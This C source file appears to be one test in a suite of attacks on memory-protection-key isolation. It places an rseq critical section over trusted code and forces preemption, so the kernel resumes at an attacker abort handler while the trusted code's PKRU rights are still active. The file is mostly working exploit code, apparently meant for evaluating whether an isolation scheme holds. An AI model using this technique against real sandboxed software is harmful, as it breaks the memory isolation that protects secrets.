// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A9: a restartable sequence laid over trusted code. When the thread is preempted in there, the kernel
// continues at the attacker's abort handler, with the trusted code's PKRU.
#include "evil.h"
#include "evil_asm.h"

#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <stdlib.h>
#include <sys/rseq.h>
#include <sys/syscall.h>
#include <unistd.h>

static const struct evil_target *victim;
static _Alignas(32) struct rseq_cs section;
static jmp_buf again;

void evil_rseq_landed(void) {
    // Preempted at the edges of trusted code, where its rights are not open yet or no longer.
    if (evil_kernel_reads(victim->key) != 1)
        longjmp(again, 1);
    exit(evil_got(victim, victim->key, "the abort handler of an rseq section over trusted code"));
}

// Shares the attacker's processor, so that there is something to be preempted by.
static void *compete(void *unused) {
    (void)unused;
    for (;;)
        sched_yield();
    return NULL;
}

int evil_rseq(const struct evil_target *target) {
    static _Alignas(32) struct rseq own;
    struct rseq *area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
    static int tries;
    pthread_t thread;
    cpu_set_t one;

    // EBUSY and EINVAL: glibc has registered this thread, and its area will do.
    if (syscall(SYS_rseq, &own, sizeof own, 0, RSEQ_SIG) == 0)
        area = &own;
    else if (errno != EBUSY && errno != EINVAL)
        return evil_failed("rseq");
    if (target->trusted == NULL)
        return evil_failed_because("no address of trusted code was given");

    victim = target;
    CPU_ZERO(&one);
    CPU_SET(sched_getcpu(), &one);
    sched_setaffinity(0, sizeof one, &one);
    if (pthread_create(&thread, NULL, compete, NULL) != 0)
        return evil_cannot("pthread_create");
    section.start_ip = (uintptr_t)target->trusted;
    section.post_commit_offset = target->trusted_size;
    section.abort_ip = (uintptr_t)evil_rseq_abort;
    setjmp(again);
    while (tries++ < 1000) {
        // The kernel clears it when it finds the thread elsewhere.
        ((volatile struct rseq *)area)->rseq_cs = (uintptr_t)&section;
        target->call_trusted();
    }
    return evil_failed_because("trusted code was never aborted");
}
